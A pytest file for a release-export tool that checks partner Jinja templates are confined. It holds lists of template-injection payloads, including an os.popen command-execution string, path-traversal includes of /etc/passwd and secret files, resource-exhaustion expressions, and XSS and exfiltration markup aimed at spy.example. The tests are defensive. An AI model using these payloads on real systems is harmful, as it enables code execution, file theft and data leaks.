"""A template from a partner may print what it is given, and do nothing else."""

from pathlib import Path

import pytest

from tests.hostile.conftest import SECRET, Export, refused

START = '<!DOCTYPE html>\n<html lang="en">\n<head>{{ styles }}</head><body>\n'
ATTRIBUTES = [
    "{{ release.__class__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ release.headline.__init__.__globals__ }}",
    "{{ image.__globals__ }}",
    "{{ at.__closure__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ release|attr('__class__') }}",
    "{{ '{0.__class__}'.format(release) }}",
    "{{ '{0.__class__}'.format_map({'0': release}) }}",
    "{{ '%s' % release.__class__ }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'] }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ dict.__base__.__subclasses__() }}",
    "{{ range.__class__ }}",
    "{{ (''|string).__class__ }}",
    "{{ caller.__code__ }}",
    "{% macro m() %}{{ m.__globals__ }}{% endmacro %}{{ m() }}",
    "{{ loop.__class__ }}",
    "{{ release['__class__']['__base__'] }}",
    "{{ ''['__class__'] }}",
]
SILENT = [
    "{{ [release]|map(attribute='__class__')|list }}",
    "{{ [release]|groupby('__class__') }}",
    "{{ [release]|map(attribute='items.__self__')|list }}",
]
FILES = [
    "{% include '../../../secret.txt' %}",
    "{% include '/etc/passwd' %}",
    "{% include 'shared/../../../secret.txt' %}",
    "{% import '..%2f..%2fsecret.txt' as s %}",
    "{% extends 'file:///etc/passwd' %}",
    "{% from 'link.txt' import x %}",
    "{% include ['none.txt', '../../../secret.txt'] %}",
]
ENDLESS = [
    "{{ 'x' * 1000000000 }}",
    "{{ [release] * 100000000 }}",
    "{{ 10 ** 10000000 }}",
    "{{ range(100000000)|list }}",
    "{% for a in range(9999) %}{{ 'x' * 9999 }}{% endfor %}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{% include 'release.html.j2' %}",
    "{{ '%1000000000d' % 1 }}",
    "{{ 'x'.ljust(1000000000) }}",
    "{{ '{:>1000000000}'.format('x') }}",
    "{{ 'x'|center(1000000000) }}",
    "{{ 'x'.replace('', 'y' * 9999999)|replace('y', 'z' * 99) }}",
]
MARKUP = [
    "{{ release.headline|safe }}",
    "{% autoescape false %}{{ release.title }}{% endautoescape %}",
    "{{ missing }}",
    "{{ release.headlien }}",
    "{% for %}",
    "{{ 1 / 0 }}",
    "{{ release.body.append(1) }}",
    "{{ release.update(title='x') }}",
    "{{ release|pprint }}",
]


@pytest.mark.parametrize("snippet", ATTRIBUTES + MARKUP)
def test_what_leads_beyond_the_words_is_refused_with_its_line(
    export: Export, pack: Path, snippet: str
) -> None:
    (pack / "release.html.j2").write_text(f"{START}{snippet}</body></html>", "utf-8")
    refused(export("html"), "release.html.j2, line 4")


@pytest.mark.parametrize("snippet", SILENT)
def test_what_leads_beyond_the_words_shows_nothing(
    export: Export, pack: Path, snippet: str
) -> None:
    (pack / "release.html.j2").write_text(f"{START}{snippet}</body></html>", "utf-8")
    assert b"class" not in export("html").everything.partition(b"<body>")[2]


@pytest.mark.parametrize("snippet", FILES)
def test_no_file_outside_the_template_is_read(export: Export, pack: Path, snippet: str) -> None:
    (pack / "link.txt").symlink_to(pack.parents[2] / "secret.txt")
    (pack / "release.html.j2").write_text(f"{START}{snippet}</body></html>", "utf-8")
    refused(export("html"), "release.html.j2")


@pytest.mark.parametrize("snippet", ENDLESS)
def test_what_has_no_end_is_stopped(export: Export, pack: Path, snippet: str) -> None:
    (pack / "release.html.j2").write_text(f"{START}{snippet}</body></html>", "utf-8")
    refused(export("html"))


ACTIVE = {
    "script": "<script>alert(1)</script>",
    "script from outside": "<script src='https://spy.example/x.js'></script>",
    "script in capitals": "<SCRIPT>alert(1)</SCRIPT>",
    "second data": '<script type="application/ld+json">{}</script>',
    "handler": '<p onclick="alert(1)">x</p>',
    "handler in a picture": '<img src="data:image/png;base64,AA==" alt="" onerror="alert(1)">',
    "script link": '<a href="javascript:alert(1)">x</a>',
    "file link": '<a href="file:///etc/passwd">x</a>',
    "data link": '<a href="data:text/html,x">x</a>',
    "form": '<form action="https://spy.example"><input></form>',
    "input": "<input autofocus>",
    "button": "<button>x</button>",
    "frame": '<iframe src="https://spy.example"></iframe>',
    "frame of words": '<iframe srcdoc="x"></iframe>',
    "object": '<object data="https://spy.example"></object>',
    "embed": '<embed src="https://spy.example">',
    "drawing": "<svg><script>alert(1)</script></svg>",
    "formula": "<math><mtext></mtext></math>",
    "film": '<video src="https://spy.example" autoplay></video>',
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><meta http-equiv="refresh" content="0;url=https://spy.example"></noscript>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://spy.example">',
    "base": '<base href="https://spy.example/">',
    "link": '<link rel="stylesheet" href="https://spy.example/x.css">',
    "prefetch": '<link rel="dns-prefetch" href="//spy.example">',
    "picture from outside": '<img src="https://spy.example/x.png" alt="">',
    "picture without scheme": '<img src="//spy.example/x.png" alt="">',
    "picture set": '<img srcset="https://spy.example/x.png 2x" alt="">',
    "drawn picture": '<img src="data:image/svg+xml;base64,PHN2Zy8+" alt="">',
    "picture of a file": '<img src="file:///etc/passwd" alt="">',
    "picture up": '<img src="../../../secret.txt" alt="">',
    "picture that is none": '<img src="pack.toml" alt="">',
    "comment": "<!-- <script>alert(1)</script> -->",
    "half comment": "<!--> <script>alert(1)</script> -->",
    "character data": "<![CDATA[<script>]]>",
    "instruction": "<?xml-stylesheet href='https://spy.example'?>",
    "ping": '<a href="https://example.org" ping="https://spy.example">x</a>',
    "own element": "<x-spy></x-spy>",
}


@pytest.mark.parametrize("name", ACTIVE)
def test_nothing_that_acts_leaves_in_a_page(export: Export, pack: Path, name: str) -> None:
    page = START + ACTIVE[name] + "</body></html>"
    (pack / "release.html.j2").write_text(page, "utf-8")
    refused(export("html"))


@pytest.mark.parametrize(
    "start",
    ["<html><head>", "<!-- x --><!DOCTYPE html><html><head>", "<script></script><!DOCTYPE html>"],
)
def test_the_policy_stands_before_all_else_or_the_page_does_not_leave(
    export: Export, pack: Path, start: str
) -> None:
    (pack / "release.html.j2").write_text(start + "<body>x</body></html>", "utf-8")
    refused(export("html"), "<!DOCTYPE html>")


def test_a_page_cannot_take_the_policy_off(export: Export, pack: Path) -> None:
    page = (
        START.replace("{{ styles }}", "<title>x</title>") + "<p>{{ release.title }}</body></html>"
    )
    (pack / "release.html.j2").write_text(page, "utf-8")
    (made,) = export("html").files.values()
    assert made.index(b"default-src &#39;none&#39;") < made.index(b"<title>")


def test_links_of_a_pdf_lead_to_what_a_reader_can_open(export: Export, pack: Path) -> None:
    page = START + '<h1>x</h1><a href="javascript:alert(1)">x</a></body></html>'
    (pack / "release.html.j2").write_text(page, "utf-8")
    refused(export("pdf"), "javascript:")


def test_no_file_is_attached_to_a_pdf(export: Export, pack: Path) -> None:
    page = START + '<h1>x</h1><a rel="attachment" href="pack.toml">x</a></body></html>'
    (pack / "release.html.j2").write_text(page, "utf-8")
    refused(export("pdf"))


def test_the_words_of_the_release_stay_words(export: Export, pack: Path) -> None:
    seen = export("html", "txt")
    assert seen.code == 0
    assert SECRET.encode() not in seen.everything
